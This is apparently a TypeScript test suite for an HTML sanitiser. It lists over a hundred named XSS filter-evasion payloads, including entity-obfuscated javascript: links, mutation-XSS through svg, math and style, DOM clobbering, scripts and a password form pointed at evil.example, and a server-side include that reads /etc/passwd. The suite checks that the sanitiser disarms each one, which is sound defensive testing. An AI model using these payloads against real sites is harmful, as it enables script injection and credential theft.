import fc from 'fast-check'
import { parseFragment } from 'parse5'
import { describe, expect, test } from 'vitest'
import { BadInput } from '../../errors.ts'
import { allowedClasses, allowedElements } from './allowed.ts'
import { sanitiseHtml } from './sanitise-html.ts'
import { attribute, isElement, type Parent, walk } from './tree.ts'

/** Every known way to smuggle a script past a filter (OWASP's filter evasion list, mutation XSS, clobbering), each by its name. */
const tricks: readonly [name: string, html: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script from elsewhere', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['a script without its end', '<script src=//evil.example/x.js'],
  ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script with a slash', '<script/xss src="https://evil.example/x.js"></script>'],
  ['a script with a null character', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['extra open brackets', '<<script>alert("x");//<</script>'],
  ['a module', '<script type=module>import("https://evil.example")</script>'],
  ['javascript: in a link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: in mixed case', '<a href="jAvAsCrIpT:alert(1)">x</a>'],
  ['javascript: with a tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['javascript: with a tab as an entity', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript: with a line feed', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['javascript: with a carriage return', '<a href="jav&#x0D;ascript:alert(1)">x</a>'],
  ['javascript: after control characters', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['javascript: with a null character', '<a href="java\0script:alert(1)">x</a>'],
  ['javascript: in decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  [
    'javascript: in long entities without semicolons',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ],
  ['javascript: in hexadecimal entities', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['javascript: with a named colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['javascript: with named tab and newline', '<a href="java&Tab;script&NewLine;:alert(1)">x</a>'],
  ['javascript: behind a byte order mark', '<a href="\ufeffjavascript:alert(1)">x</a>'],
  ['javascript: behind a soft hyphen', '<a href="java\u00adscript:alert(1)">x</a>'],
  ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: with a page', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: with a picture in markup', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=alert(1)>">'],
  ['blob: and filesystem:', '<a href="blob:https://x/1">x</a><a href="filesystem:https://x/1">y</a>'],
  ['view-source:, jar: and feed:', '<a href="view-source:x">x</a><a href="jar:x!/y">y</a><a href="feed:javascript:alert(1)">z</a>'],
  ['an address without scheme', '<a href="//evil.example/x">x</a><img src="//evil.example/x.png">'],
  ['a backslash for a slash', '<a href="/\\evil.example">x</a><a href="\\\\evil.example">y</a>'],
  ['a slash, a tab and a slash', '<a href="/\t/evil.example">x</a>'],
  ['a picture that fails', '<img src=x onerror=alert(1)>'],
  ['a picture of no source', '<img src onerror=alert(1)>'],
  ['a handler without quotes or spaces', '<img/src="/a.png"/onerror=alert(1)>'],
  ['a handler behind a strange space', '<img src="/a.png"\u000conerror=alert(1)>'],
  ['broken quotes', '<IMG """><SCRIPT>alert("x")</SCRIPT>"\\>'],
  ['grave accents', '<img src=`javascript:alert("x")`>'],
  ['a picture of javascript:', '<img src="javascript:alert(1)"><img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">'],
  ['srcset', '<img src="/a.png" srcset="https://evil.example/x 1x">'],
  ['handlers on everything', '<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1 contenteditable>x</p>'],
  ['onanimationstart and ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details><b onanimationstart=alert(1)>y</b>'],
  ['popovers', '<button popovertarget=x>b</button><div popover id=x onbeforetoggle=alert(1)>y</div>'],
  ['body with onload', '<body onload=alert(1)>x</body>'],
  ['body with a background', '<body background="javascript:alert(1)">'],
  ['svg with onload', '<svg onload=alert(1)>'],
  ['svg with a script', '<svg><script>alert(1)</script></svg>'],
  ['svg with an animated address', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>'],
  ['svg use with xlink', '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>'],
  ['svg foreignObject', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>'],
  ['svg with a style that hides markup', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['svg with a title that ends early', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>'],
  [
    'math with a link',
    '<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">y</maction></math>',
  ],
  [
    'mutation: math, mglyph, style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['mutation: form in form in math', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['mutation: noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  [
    'mutation: noembed and noframes',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed><noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
  ],
  ['mutation: xmp', '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>'],
  ['mutation: textarea', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['mutation: title', '<title><p title="</title><img src onerror=alert(1)>"></title>'],
  ['mutation: style', '<style><style/><img src=x onerror=alert(1)></style>'],
  ['mutation: iframe', '<iframe><p title="</iframe><img src onerror=alert(1)>"></iframe>'],
  ['mutation: select', '<select><style></select><img src=x onerror=alert(1)></style>'],
  ['mutation: template', '<template><img src=x onerror=alert(1)></template>'],
  ['mutation: plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['mutation: listing and backticks', '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing><p title="``onerror=alert(1)">x</p>'],
  ['mutation: an element in a table', '<table><a href="/x"><svg><desc><style><img src onerror=alert(1)></style></desc></svg></a></table>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a comment that ends with --!>', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['a processing instruction and CDATA', '<?xml version="1.0"?><![CDATA[<script>alert(1)</script>]]>'],
  ['a document type with entities', '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;'],
  ['markup as entities stays text', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['doubled entities', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
  ['script in UTF-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['an iframe with srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['an iframe of javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['frames', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['object, embed and applet', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x></applet>'],
  ['audio and video', '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src onerror=alert(1)></audio>'],
  ['a base address', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['a policy of its own', '<meta http-equiv="Content-Security-Policy" content="default-src *">'],
  ['a style sheet from elsewhere', '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=import href=x>'],
  ['a style sheet with import', '<style>@import "https://evil.example/x.css";</style>'],
  ['a style attribute with an address', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['a style attribute with an expression', '<p style="width:expression(alert(1))">x</p>'],
  ['a style attribute that covers the page', '<p style="position:fixed;inset:0;z-index:9999">x</p>'],
  ['a style with escapes and comments', '<p style="xss:expr/*x*/ession(alert(1));\\62\\61 ckground:url(x)">x</p>'],
  ['-moz-binding and behavior', '<p style="-moz-binding:url(x#y);behavior:url(x.htc)">x</p>'],
  ['a form', '<form action="https://evil.example"><input name=password><button>x</button></form>'],
  ['an action of javascript:', '<button formaction="javascript:alert(1)">x</button><input type=image formaction=x src=y>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  [
    'keygen, menu and marquee',
    '<keygen autofocus onfocus=alert(1)><marquee onstart=alert(1)>x</marquee><menu id=x onshow=alert(1)>y</menu>',
  ],
  ['clobbering by id', '<a id=cookie></a><p id=body>x</p><p id=getElementById>y</p><p id=__proto__>z</p>'],
  ['clobbering by name', '<img src="/a.png" name=currentScript><a name=location href="/x">x</a>'],
  ['clobbering by a list of the same id', '<a id=config><a id=config name=url href="/x">x</a>'],
  ['ids with strange characters', "<p id='\"><img src=x onerror=alert(1)>'>x</p>"],
  ['classes of the desk', '<p class="button notice modal" data-confirm="x" is="x-y" slot=z part=q nonce=n>x</p>'],
  ['microdata and ARIA', '<p itemprop=url itemscope role=alert aria-live=assertive hidden inert accesskey=x>x</p>'],
  ['a custom element', '<x-y onclick=alert(1)>x</x-y><slot onslotchange=alert(1)>y</slot>'],
  ['ping and target', '<a href="https://example.com" ping="https://evil.example" target=_blank download>x</a>'],
  ['a target that names a window', '<a href="/x" target="opener">x</a>'],
  ['an area of a map', '<map name=m><area href="javascript:alert(1)"></map><img usemap="#m" src="/a.png">'],
  ['a table with a background', '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>'],
  ['cite and longdesc', '<blockquote cite="javascript:alert(1)">x</blockquote><img src="/a.png" longdesc="javascript:alert(1)">'],
  ['a link of Markdown', '[x](javascript:alert(1))'],
  ['a picture of Markdown', '![x](x "onerror=alert(1)")<javascript:alert(1)>'],
  ['an automatic link of Markdown', '<https://example.com/?"onmouseover="alert(1)>'],
  ['a server side include', '<!--#exec cmd="/bin/cat /etc/passwd"-->'],
  ['bits of PHP and ASP', '<?php echo 1 ?><% alert(1) %>'],
  ['prototype names as attributes', '<p constructor=x __proto__=y tostring=z>x</p>'],
  ['prototype names as elements', '<constructor>x</constructor><__proto__>y</__proto__>'],
  ['a nested namespace', '<svg><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></svg>'],
  [
    'an XML island',
    '<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></c></x></xml><span datasrc=#i datafld=c></span>',
  ],
  ['a right-to-left override in an address', '<a href="https://example.com/\u202egpj.exe">x</a>'],
]

const attributesOfAll = new Set(
  [
    'id',
    'class',
    'lang',
    'dir',
    'href',
    'rel',
    'title',
    'src',
    'alt',
    'width',
    'height',
    'colspan',
    'rowspan',
    'scope',
    'span',
    'start',
  ].concat(['type', 'value', 'datetime']),
)

/** Whatever a browser makes of it: nothing outside the lists, every address harmless. */
function faultsIn(html: string): string[] {
  const faults: string[] = []
  walk(parseFragment(html) as Parent, element => {
    if (!allowedElements.includes(element.tagName) && element.tagName !== 'template') faults.push(`<${element.tagName}>`)
    if (element.tagName === 'template' || element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
      faults.push(`foreign <${element.tagName}>`)
    for (const { name, value } of element.attrs) {
      if (!attributesOfAll.has(name)) faults.push(`${name}="${value}"`)
      if (name === 'id' && !/^u-[\p{L}\p{N}_-]+$/u.test(value)) faults.push(`id ${value}`)
      if (name === 'class' && value.split(' ').some(one => !allowedClasses.has(one))) faults.push(`class ${value}`)
      if (
        name === 'href' &&
        !/^(?:https?:\/\/[^\s\\]+|mailto:[^\s:]+|tel:[+\d][^\s]*|#u-[\p{L}\p{N}_-]+|\/(?![/\\])[^\s\\]*)$/iu.test(value)
      )
        faults.push(`href ${value}`)
      if (name === 'src' && !/^\/(?![/\\])[^\s\\]*$/.test(value)) faults.push(`src ${value}`)
    }
    return true
  })
  if (/<!--|<\?/.test(html)) faults.push('a comment')
  return faults
}

describe('what is stored', () => {
  test('the list of tricks is long enough', () => expect(tricks.length).toBeGreaterThan(100))

  test.each(tricks)('disarms %s', (_, html) => {
    for (const written of [html, `<p>${html}</p>`, `<table><tr><td>${html}</td></tr></table>`]) {
      const clean = sanitiseHtml(written)
      expect(faultsIn(clean)).toEqual([])
      expect(sanitiseHtml(clean)).toBe(clean)
    }
  })

  const pieces = fc.oneof(
    fc.constantFrom(...tricks.map(([, html]) => html)),
    fc.constantFrom(
      '<p>',
      '</p>',
      '<table>',
      '<tr>',
      '<td>',
      '</table>',
      '<b>',
      '</b>',
      '<a href="/x">',
      '</a>',
      '<ul><li>',
      '</ul>',
      '<h1>',
      '</h2>',
      '<blockquote>',
    ),
    fc.constantFrom(
      '<svg>',
      '</svg>',
      '<math>',
      '<style>',
      '</style>',
      '<!--',
      '-->',
      '<select>',
      '<form>',
      '<template>',
      '</template>',
      '<br>',
      '<hr>',
      '<figure>',
    ),
    fc.constantFrom(
      '<button>',
      '<nobr>',
      '<dl><dt>',
      '<dd>',
      '<caption>',
      '<col>',
      '<ruby><rt>',
      '<section>',
      '<pre>\n\n',
      '<center>',
      '<option>',
      '<sub>',
      '<a id=x>',
    ),
    fc.constantFrom('正文', ' ', '\u00a0', '&lt;', '&amp;lt;', '"', "'", '\0', '\n', '&#x3c;'),
    fc.string({ maxLength: 8 }),
  )
  test('is harmless whatever is put together, and sanitising it again changes nothing', () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 14 }), parts => {
        const clean = sanitiseHtml(parts.join(''))
        expect(faultsIn(clean)).toEqual([])
        expect(sanitiseHtml(clean)).toBe(clean)
      }),
      { numRuns: 600 },
    )
  })

  test('keeps what an article is made of', () => {
    const article = `<h2 id="u-a">一、总体情况</h2>
<p class="flush">各股室：</p>
<p>正文<b>粗</b><sup><a href="#u-fn1" id="u-ref1">[1]</a></sup>，<a href="https://www.gov.cn/" rel="external noopener">中国政府网</a>、<a href="mailto:a@b.gov.cn">邮箱</a>、<a href="tel:+867301234567">电话</a>。</p>
<table><caption>收费</caption><thead><tr><th scope="col" rowspan="2">项目</th><th scope="colgroup" colspan="2">数</th></tr></thead><tbody><tr><td class="w30">1</td><td></td></tr></tbody></table>
<figure><img src="/files/a.png" alt="一张图" width="640" height="480"><figcaption>图1</figcaption></figure>
<ol start="3"><li>三</li></ol>
<p class="sign">示例市文化旅游广电局<br>2026年9月10日</p>
<section class="footnotes"><ol><li id="u-fn1"><p>脚注</p></li></ol></section>`
    expect(sanitiseHtml(article)).toBe(article)
  })

  test.each([
    ['<p style="text-align: center">x</p>', '<p class="center">x</p>'],
    ['<center>x</center>', '<p class="center">x</p>'],
    ['<p align=right style="color:red">x</p>', '<p class="right">x</p>'],
    ['<td>x', '<p>x</p>'],
    ['<h1>x</h1>', '<h2>x</h2>'],
    ['<table><tr><td width="33%">x</td></tr></table>', '<table><tbody><tr><td class="w30">x</td></tr></tbody></table>'],
    ['<span style="font-family:楷体_GB2312">（一）</span>', '<p><span class="kai">（一）</span></p>'],
    ['<p>&nbsp;</p><p><br></p><p><span></span></p>', ''],
    ['<p>a</p>b<br>c<div>d</div>', '<p>a</p>\n<p>b<br>c</p>\n<p>d</p>'],
    [
      '<img src="https://elsewhere.example/a.png" alt="图">',
      '<p><a href="https://elsewhere.example/a.png" rel="external noopener">［图：图］</a></p>',
    ],
    ['<a href="https://a.example" target="_blank" rel="opener">x</a>', '<p><a href="https://a.example" rel="external noopener">x</a></p>'],
    ['<h2></h2>', '<h2></h2>'],
  ])('%s becomes %s', (written, stored) => expect(sanitiseHtml(written)).toBe(stored))

  test('no article nests or runs on without end', () => {
    expect(() => sanitiseHtml('<div>'.repeat(100_000))).toThrow(BadInput)
    expect(() => sanitiseHtml('a'.repeat(3_000_001))).toThrow(/上限/)
  })

  test('a script in a paragraph leaves the words around it', () => {
    expect(sanitiseHtml('<p>前<script>alert(1)</script>后</p>')).toBe('<p>前后</p>')
    expect(attribute(parseFragment('<a id=x>').childNodes.find(isElement)!, 'id')).toBe('x')
  })
})
